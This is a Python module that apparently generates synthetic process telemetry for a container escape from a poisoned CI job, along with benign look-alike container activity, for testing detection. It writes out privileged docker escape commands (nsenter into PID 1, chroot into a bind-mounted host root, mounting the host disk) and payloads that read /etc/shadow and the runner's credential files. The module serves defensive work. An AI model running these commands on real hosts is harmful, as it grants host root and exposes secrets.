"""Container escape from a poisoned CI job (T1611): a workflow step on the self-hosted
runner uses the runner's docker-group rights to start a container with the host's
namespaces, root filesystem or disk, and steps out onto the host as root.

Per instance: the poisoned script the job runs (an imitation of a repository helper)
and the step's temporary script id; which escapes are used (one or two of: a
privileged container in the host's PID namespace running `nsenter` into PID 1, the
host's root bind-mounted into the container and `chroot` into it, or SYS_ADMIN /
privileged with the host's disk mounted and chrooted into), how the flags are spelled
(short or long options, `--mount` or `-v`, the mount point), the image (alpine, busybox,
ubuntu, debian with tags), the disk device, what runs on the host (id, reading
/etc/shadow, the runner's registration credentials, listing /root); timing.

Look-alikes: binfmt/QEMU registration containers, BuildKit builders, docker-in-docker
services (privileged CI containers); node-exporter and cAdvisor with host PID and a
read-only host root (monitoring); administrators' debug containers and nsenter into a
container's network namespace (troubleshooting).
"""

from __future__ import annotations

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext, guid, hex_string
from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    RUNNER_WORKER,
    SH,
    LookalikeFamily,
    ci_step,
    register_lookalikes,
    root_session,
)

CAMPAIGN = "container_escape"
DOCKER = "/usr/bin/docker"
SHIM = "/usr/bin/containerd-shim-runc-v2"
_IMAGES = (
    "alpine:3.18",
    "alpine:3.19",
    "alpine:3.20",
    "alpine:latest",
    "busybox:1.36",
    "busybox:latest",
    "ubuntu:22.04",
    "ubuntu:24.04",
    "debian:bookworm-slim",
)
_SCRIPT_DIRS = ("scripts", "ci", ".github/scripts", "tools", "build")
_SCRIPT_NAMES = (
    "warm-cache.sh",
    "setup-buildenv.sh",
    "prepare-runner.sh",
    "bootstrap-deps.sh",
    "test-matrix.sh",
    "fetch-fixtures.sh",
    "lint-docker.sh",
    "sync-artifacts.sh",
)
_MOUNT_POINTS = ("/host", "/hostfs", "/mnt/host", "/h", "/mnt/root")
#: What the operator runs on the host: (image on the host, command line).
_PAYLOADS = (
    ("/usr/bin/id", "id"),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/cat", "cat /home/runner/actions-runner/.credentials"),
    ("/usr/bin/cat", "cat /home/runner/actions-runner/.credentials_rsaparams"),
    ("/usr/bin/ls", "ls -la /root"),
    ("/usr/bin/hostname", "hostname"),
)


def _shim(t: Timeline, instance: Instance, index: int) -> Process:
    """containerd starts the container's shim (the runtime side of `docker run`)."""
    return t.run(
        "escape_runtime",
        t.daemon("containerd"),
        SHIM,
        f"{SHIM} -namespace moby -id {instance.hex(f'container_{index}', 64)} "
        "-address /run/containerd/containerd.sock",
        "root",
        after=(0.5, 3),
    )


def _payload(instance: Instance, index: int) -> tuple[str, str]:
    image, command = instance.pick(f"payload_{index}", _PAYLOADS)
    if instance.chance(0.5):
        return SH, f"sh -c {command}"
    return image, command


def _escape(t: Timeline, instance: Instance, job: Process, technique: str, index: int) -> None:
    """One container launch that steps out onto the host, and what it runs there."""
    image = instance.pick(f"image_{index}", _IMAGES)
    host_image, payload = _payload(instance, index)
    if technique == "pid1_nsenter":
        enter = instance.pick(
            f"nsenter_form_{index}",
            (
                "nsenter -t 1 -m -u -i -n -p --",
                "nsenter --target 1 --mount --uts --ipc --net --pid --",
                "nsenter -t 1 -a",
                "nsenter -t 1 -m -p --",
            ),
        )
        flags = instance.pick(
            f"flags_{index}",
            (
                "--rm --privileged --pid=host",
                "--rm --pid=host --privileged --net=host",
                "--privileged --pid host --rm",
                "-i --rm --privileged --pid=host --userns=host",
            ),
        )
        t.run("escape", job, DOCKER, f"docker run {flags} {image} {enter} {payload}", after=(5, 40))
        shim = _shim(t, instance, index)
        inside = t.run("escape", shim, "/usr/bin/nsenter", f"{enter} {payload}", "root")
        t.run("escape", inside, host_image, payload, "root")
    elif technique == "hostfs_chroot":
        point = instance.pick(f"mount_point_{index}", _MOUNT_POINTS)
        bind = instance.pick(
            f"bind_{index}",
            (f"-v /:{point}", f"--volume=/:{point}", f"--mount type=bind,source=/,target={point}"),
        )
        privileged = instance.pick(f"privileged_{index}", ("--privileged ", ""))
        t.run(
            "escape",
            job,
            DOCKER,
            f"docker run --rm {privileged}{bind} {image} chroot {point} {payload}",
            after=(5, 40),
        )
        shim = _shim(t, instance, index)
        inside = t.run("escape", shim, "/usr/sbin/chroot", f"chroot {point} {payload}", "root")
        t.run("escape", inside, host_image, payload, "root")
    else:
        device = instance.pick(f"disk_{index}", ("/dev/sda1", "/dev/nvme0n1p1"))
        point = instance.pick(f"mount_point_{index}", _MOUNT_POINTS)
        rights = instance.pick(
            f"rights_{index}",
            (
                f"--cap-add SYS_ADMIN --security-opt apparmor=unconfined --device {device}",
                f"--cap-add=SYS_ADMIN --cap-add=MKNOD --device={device}",
                "--privileged",
            ),
        )
        script = f"mkdir -p {point} && mount {device} {point} && chroot {point} {payload}"
        t.run(
            "escape", job, DOCKER, f"docker run --rm {rights} {image} sh -c {script}", after=(5, 40)
        )
        shim = _shim(t, instance, index)
        shell = t.run("escape", shim, "/bin/sh", f"sh -c {script}", "root")
        t.run("escape_runtime", shell, "/bin/mkdir", f"mkdir -p {point}")
        t.run("escape", shell, "/bin/mount", f"mount {device} {point}")
        inside = t.run("escape", shell, "/usr/sbin/chroot", f"chroot {point} {payload}")
        t.run("escape", inside, host_image, payload, "root")


@scenario(CAMPAIGN, "linux", ("access", "escape", "escape_runtime"))
def container_escape(ctx: SimContext) -> Stages:
    """A poisoned workflow step on the build runner breaks out through docker twice."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host", ("build",))
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "escape", (0, 22)))
    worker = t.run(
        "access",
        t.daemon("runner"),
        RUNNER_WORKER,
        f"{RUNNER_WORKER} spawnclient {instance.between(100, 199)} {instance.between(100, 199)}",
    )
    step = instance.keep("step_script", guid(instance.rng))
    job = t.run("access", worker, BASH, f"/usr/bin/bash -e /home/runner/work/_temp/{step}.sh")
    script = instance.name_like("poisoned_script", _SCRIPT_DIRS, _SCRIPT_NAMES, joiner="/")
    poisoned = t.run("access", job, BASH, f"bash ./{script}", after=(1, 10))
    techniques = instance.sample(
        "techniques", ("pid1_nsenter", "hostfs_chroot", "disk_mount"), instance.between(1, 2)
    )
    for index in range(2):
        _escape(t, instance, poisoned, techniques[index % len(techniques)], index)
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------


def _container(t: Timeline, stage: str, image: str, command: str) -> Process:
    """The runtime side of a container start: the shim and the entry process."""
    shim = t.run(
        stage,
        t.daemon("containerd"),
        SHIM,
        f"{SHIM} -namespace moby -id {hex_string(t.rng, 64)} -address /run/containerd/containerd.sock",
        "root",
        after=(0.5, 3),
    )
    return t.run(stage, shim, image, command, "root")


_BINFMT = (
    (
        "docker run --privileged --rm tonistiigi/binfmt:qemu-v8.1.5 --install arm64,riscv64",
        "/usr/bin/binfmt",
        "binfmt --install arm64,riscv64",
    ),
    (
        "docker run --rm --privileged multiarch/qemu-user-static --reset -p yes",
        "/register",
        "/register --reset -p yes",
    ),
    (
        "docker run --privileged --rm tonistiigi/binfmt --install arm64",
        "/usr/bin/binfmt",
        "binfmt --install arm64",
    ),
)
_DIND_VERSIONS = ("24.0", "25.0", "26.1", "27.3")
_MONITORING = (
    (
        "docker run -d --restart unless-stopped --name node-exporter --net=host --pid=host "
        "-v /:/host:ro,rslave quay.io/prometheus/node-exporter:v1.8.2 --path.rootfs=/host",
        "/bin/node_exporter",
        "/bin/node_exporter --path.rootfs=/host",
    ),
    (
        "docker run -d --restart unless-stopped --name cadvisor --privileged --device=/dev/kmsg "
        "-v /:/rootfs:ro -v /var/run:/var/run:ro -v /sys:/sys:ro -v /var/lib/docker/:/var/lib/docker:ro "
        "-p 8080:8080 gcr.io/cadvisor/cadvisor:v0.49.1",
        "/usr/bin/cadvisor",
        "/usr/bin/cadvisor -logtostderr",
    ),
)
_DEBUG = (
    ("docker run --rm -it --net=host nicolaka/netshoot tcpdump -ni eth0 port 443 -c 200", None),
    ("docker run --rm -it --pid=container:{name} --cap-add SYS_PTRACE nicolaka/netshoot", None),
    ("docker run --rm -it --network container:{name} nicolaka/netshoot ss -tnp", None),
    ("docker exec -it {name} sh", None),
    ("docker inspect -f {{{{.State.Pid}}}} {name}", "nsenter"),
)
_CONTAINERS = ("portal-api", "worker", "redis", "otel-collector", "nginx-proxy")


def _binfmt_qemu(ctx: SimContext, family: LookalikeFamily) -> None:
    """Multi-arch builds registering QEMU handlers through a privileged container."""
    stage = family.name
    for host, moment in family.host_moments(1, 3, roles=("build",)):
        t = family.on(host, moment)
        step = ci_step(t, stage)
        command, image, entry = t.rng.choice(_BINFMT)
        t.run(stage, step, DOCKER, command)
        _container(t, stage, image, entry)


def _buildx_builder(ctx: SimContext, family: LookalikeFamily) -> None:
    """BuildKit builders for buildx (privileged containers started by the CLI plugin)."""
    stage = family.name
    for host, moment in family.host_moments(1, 2, roles=("build",)):
        t = family.on(host, moment)
        step = ci_step(t, stage)
        name = f"ci-builder-{hex_string(t.rng, 6)}"
        t.run(
            stage,
            step,
            DOCKER,
            f"docker buildx create --name {name} --driver docker-container --use",
        )
        _container(
            t,
            stage,
            "/usr/bin/buildkitd",
            "buildkitd --allow-insecure-entitlement=network.host",
        )
        t.run(
            stage,
            step,
            DOCKER,
            "docker buildx build --platform linux/amd64,linux/arm64 "
            f"-t contosoacr.azurecr.io/portal:{hex_string(t.rng, 7)} --push .",
            after=(5, 30),
        )


def _dind_service(ctx: SimContext, family: LookalikeFamily) -> None:
    """Docker-in-docker services for integration tests."""
    stage = family.name
    for host, moment in family.host_moments(1, 2, roles=("build",)):
        t = family.on(host, moment)
        step = ci_step(t, stage)
        version = t.rng.choice(_DIND_VERSIONS)
        name = f"dind-{hex_string(t.rng, 8)}"
        t.run(
            stage,
            step,
            DOCKER,
            f"docker run --privileged -d --name {name} -e DOCKER_TLS_CERTDIR=/certs "
            f"-v {name}-certs:/certs docker:{version}-dind",
        )
        entrypoint = _container(
            t,
            stage,
            "/usr/local/bin/dockerd-entrypoint.sh",
            "/bin/sh /usr/local/bin/dockerd-entrypoint.sh",
        )
        t.run(
            stage,
            entrypoint,
            "/usr/local/bin/dockerd",
            "dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2376 --tlsverify",
        )
        t.run(stage, step, DOCKER, f"docker rm -f {name}", after=(60, 600))


def _node_monitoring(ctx: SimContext, family: LookalikeFamily) -> None:
    """Monitoring containers with the host's PID namespace and a read-only host root,
    (re)started by their systemd units."""
    stage = family.name
    for host in LINUX_HOSTS:
        if host.role != "build" and family.rng.random() >= 0.5:
            continue
        agents = family.rng.sample(_MONITORING, family.rng.randint(1, 2))
        for day in ctx.day_range():
            for command, image, entry in agents:
                if family.rng.random() < 0.3 and host.role != "build":
                    continue
                t = family.on(host, ctx.any_time(family.rng, day))
                t.run(stage, t.daemon("systemd"), DOCKER, command, "root")
                _container(t, stage, image, entry)


def _admin_debug(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators troubleshooting containers: debug images and nsenter into a
    container's network namespace."""
    stage = family.name
    for host in LINUX_HOSTS:
        if host.role not in ("build", "web", "app") and family.rng.random() >= 0.3:
            continue
        for moment in family.times(1 if host.role == "build" else 0, 1):
            t = family.on(host, moment)
            root = root_session(t, t.rng.choice(host.admin_users), stage=stage)
            name = t.rng.choice(_CONTAINERS)
            for template, follow in t.rng.sample(_DEBUG, t.rng.randint(1, 2)):
                t.run(stage, root, DOCKER, template.format(name=name), after=(5, 60))
                if follow == "nsenter":
                    pid = t.rng.randrange(3000, 90000)
                    tool, command = t.rng.choice(
                        (
                            ("/usr/bin/ss", "ss -tlnp"),
                            ("/usr/sbin/ip", "ip addr"),
                            ("/usr/bin/cat", "cat /etc/resolv.conf"),
                        )
                    )
                    enter = t.run(
                        stage,
                        root,
                        "/usr/bin/nsenter",
                        f"nsenter -t {pid} -n {command}",
                        after=(5, 30),
                    )
                    t.run(stage, enter, tool, command)


_FAMILIES = {
    "binfmt_qemu": _binfmt_qemu,
    "buildx_builder": _buildx_builder,
    "dind_service": _dind_service,
    "node_monitoring": _node_monitoring,
    "admin_debug": _admin_debug,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
